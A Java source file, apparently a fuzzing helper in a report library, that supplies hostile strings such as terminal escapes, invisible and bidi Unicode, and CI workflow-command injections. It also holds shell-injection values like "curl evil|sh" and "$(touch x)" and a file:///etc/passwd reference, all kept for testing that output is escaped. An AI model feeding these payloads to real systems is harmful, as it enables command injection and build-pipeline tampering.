package io.github.asgbg.report;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.SplittableRandom;

/** Texts that nobody should be able to do anything with, and random mixtures of them; says which it has given. */
public final class Hostile {
    /** What S3 and base64 carry, and XML does not. */
    private static final List<String> CONTROLS = List.of(
            "\u001b[2J\u001b[31mred",
            "\u001b]8;;http://evil.test\u001b\\link\u001b]8;;\u001b\\",
            "\u001b]0;title\u0007",
            "a\rb",
            "a\nb",
            "a\r\n::add-mask::x",
            "\u0007",
            "\u0000",
            "\u001b",
            "\ud800x",
            "x\udfff",
            "section_start:1:x\r\u001b[0K");

    /** What every format carries. */
    private static final List<String> TEXTS = List.of(
            "\u009b2J",
            "\u009d0;title\u009c",
            "\u0085",
            "\u007f",
            "\u202egnp.exe",
            "\u2066x\u2069",
            "v\u200b1",
            "v\u200d1",
            "\ufeffv1",
            "v1\ufe0f",
            "\u2028::error::x",
            "\u2029",
            "\u3164",
            "\u00ad",
            "\udb40\udc41",
            "::set-env name=PATH::x",
            "  ::add-mask::x",
            ":",
            "::",
            "##[group]x",
            "#",
            "##vso[task.setvariable variable=x]y",
            "##teamcity[buildStop comment='x']",
            "--- x",
            "+++ x",
            "~~~ x",
            "^^^ +++",
            "-",
            "'; touch /tmp/x; '",
            "v1'; curl evil|sh; echo '",
            "$(touch x)",
            "`touch x`",
            "a b  c",
            "\"x\" \\",
            "--force",
            "@file",
            "file:///etc/passwd",
            "*?[x]{a,b}~!&|<>;()#",
            "cafe\u0301 \u7248\u672c \ud83d\ude00",
            "arn:aws:iam::123456789012:role/x",
            "v2",
            "shop");

    private final SplittableRandom random;
    private final boolean isXml;
    private final Set<String> given = new LinkedHashSet<>();

    /** {@code isXml}: only what an XML document can hold. */
    public Hostile(long seed, boolean isXml) {
        this.random = new SplittableRandom(seed);
        this.isXml = isXml;
    }

    /** All of them but the endless one. */
    public static List<String> all(boolean isXml) {
        List<String> all = new ArrayList<>(TEXTS);
        all.addAll(isXml ? List.of() : CONTROLS);
        return all;
    }

    /** One of them, several, or once in a while a hundred kilobytes. */
    public String text() {
        List<String> all = all(isXml);
        StringBuilder text = new StringBuilder();
        do {
            text.append(all.get(random.nextInt(all.size())));
        } while (random.nextInt(3) == 0);
        String mixed = random.nextInt(300) == 0 ? text.toString().repeat(100_000 / text.length()) : text.toString();
        given.add(mixed);
        return mixed;
    }

    public boolean isChosen(double probability) {
        return random.nextDouble() < probability;
    }

    public int below(int bound) {
        return random.nextInt(bound);
    }

    /** Every text that was given. */
    public Set<String> given() {
        return given;
    }
}
